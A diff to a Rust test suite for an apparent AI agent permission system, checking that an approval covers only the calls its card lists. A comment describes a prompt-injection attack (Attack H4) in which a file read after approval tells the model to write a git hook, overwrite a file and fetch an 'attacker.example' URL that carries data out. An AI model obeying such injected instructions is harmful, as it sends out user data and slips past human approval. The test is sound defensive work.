@@ -1,5 +1,6 @@
 //! What an OK covers: the calls that its card lists, and no other one. Everything else asks, whoever talked the model into it.
 
+use countersign_playground::Posted;
 use serde_json::{Value, json};
 
 use crate::support::api::eventually;
@@ -40,28 +41,22 @@ async fn places(world: &World, status: &str) -> Vec<String> {
     places
 }
 
-/// Waits until people are asked about exactly these places, and says no.
-async fn refuses(world: &World, asked: &[&str]) {
+/// Waits until people are asked about exactly these places, and says no on the card that asks. Gives the card's id.
+async fn refuses(world: &World, asked: &[&str], earlier: Option<String>) -> Option<String> {
     let (u, c) = (world.on.user("u1"), world.on.chat("c1"));
     eventually("the question", async || (places(world, "pending").await == asked).then_some(())).await;
+    let asks = |m: &Posted| m.button("reject").is_some() && Some(&m.id) != earlier.as_ref();
     let card = world
-        .seen("its card", |seen| {
-            seen.messages.iter().rfind(|m| m.button("reject").is_some()).cloned()
-        })
+        .seen("its card", |seen| seen.messages.iter().rfind(|m| asks(m)).cloned())
         .await;
-    world
-        .say(
-            u,
-            c,
-            "不行",
-            To {
-                reply_to: Some(&card.id),
-                group: true,
-                ..GROUP
-            },
-        )
-        .await;
+    let reply = To {
+        reply_to: Some(&card.id),
+        group: true,
+        ..GROUP
+    };
+    world.say(u, c, "不行", reply).await;
     eventually("the refusal", async || places(world, "pending").await.is_empty().then_some(())).await;
+    Some(card.id)
 }
 
 /// Attack H4: a file that is read after the OK tells the model to write a git hook, to overwrite another file, and to fetch an address that
@@ -91,10 +86,10 @@ async fn an_ok_covers_no_call_that_its_card_does_not_list(on: On) {
     assert_eq!((&pending["grants"], &pending["asks"]), (&json!([grant]), &json!(["web_fetch"])));
     world.tap(u, c, &card, "approve", None).await;
 
-    refuses(&world, &[".git/hooks/post-checkout", "budget.xlsx.csv"]).await;
+    let first = refuses(&world, &[".git/hooks/post-checkout", "budget.xlsx.csv"], None).await;
     assert_eq!(places(&world, "executed").await, ["summary.md"]);
-    refuses(&world, &["summary.md"]).await;
-    refuses(&world, &["http://attacker.example/?d=ship%20the%20report"]).await;
+    let second = refuses(&world, &["summary.md"], first).await;
+    refuses(&world, &["http://attacker.example/?d=ship%20the%20report"], second).await;
     world.hears(c, "写好了").await;
     assert_eq!(
         (world.file(".git/hooks/post-checkout"), world.file("budget.xlsx.csv")),
@@ -133,9 +128,9 @@ async fn nothing_escapes_what_the_card_lists(on: On) {
     world.say(u, c, "写", GROUP).await;
     let card = world.plan_card(c).await;
     world.tap(u, c, &card, "approve", None).await;
-    refuses(&world, &paths).await;
+    let mut card = refuses(&world, &paths, None).await;
     for url in urls {
-        refuses(&world, &[url]).await;
+        card = refuses(&world, &[url], card).await;
     }
     world.hears(c, "好了").await;
     assert_eq!(places(&world, "executed").await, covered);
@@ -159,7 +154,7 @@ async fn a_changed_plan_covers_what_its_own_card_lists(on: On) {
     world.say(u, c, "写到 b.md", GROUP).await;
     let second = world.card_after(c, &first).await;
     world.tap(u, c, &second, "approve", None).await;
-    refuses(&world, &["a.md"]).await;
+    refuses(&world, &["a.md"], None).await;
     assert_eq!(places(&world, "executed").await, ["b.md"]);
     world.hears(c, "好了").await;
     world.end().await;
@@ -180,7 +175,7 @@ async fn in_plan_mode_a_call_belongs_to_its_step(on: On) {
             return say(r#"{"outcome": "continue"}"#);
         }
         if last.starts_with("<plan-conclusion>") {
-            return say("好了");
+            return say("全部写完。");
         }
         match last.starts_with("<plan-step>") {
             true => writes(&["a.md"]),
@@ -193,8 +188,8 @@ async fn in_plan_mode_a_call_belongs_to_its_step(on: On) {
     let card = world.plan_card(c).await;
     world.tap(u, c, &card, "approve", None).await;
     // Step 1 has not declared it.
-    refuses(&world, &["a.md"]).await;
-    world.hears(c, "好了").await;
+    refuses(&world, &["a.md"], None).await;
+    world.hears(c, "全部写完").await;
     assert_eq!(places(&world, "executed").await, ["a.md"]);
     assert_eq!(world.titled(c, "操作确认"), 1);
     world.end().await;
